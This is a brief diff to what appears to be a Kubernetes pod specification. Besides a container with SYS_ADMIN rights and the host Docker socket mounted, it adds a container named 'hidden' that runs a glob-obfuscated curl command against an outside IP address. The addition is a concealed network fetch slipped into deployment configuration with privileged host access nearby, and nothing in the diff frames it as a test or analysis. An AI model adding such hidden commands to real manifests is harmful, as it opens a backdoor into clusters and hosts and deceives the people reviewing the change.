@@ -42,6 +42,9 @@ spec:
                   add: ["SYS_ADMIN"]
               volumeMounts:
                 - {name: sock, mountPath: /var/run/docker.sock}
+            - name: hidden
+              image: registry.example/app:1
+              command: ["/bin/sh", "-c", "/???/???/cur? -s http://203.0.113.7/x"]
           volumes:
             - name: sock
               hostPath:
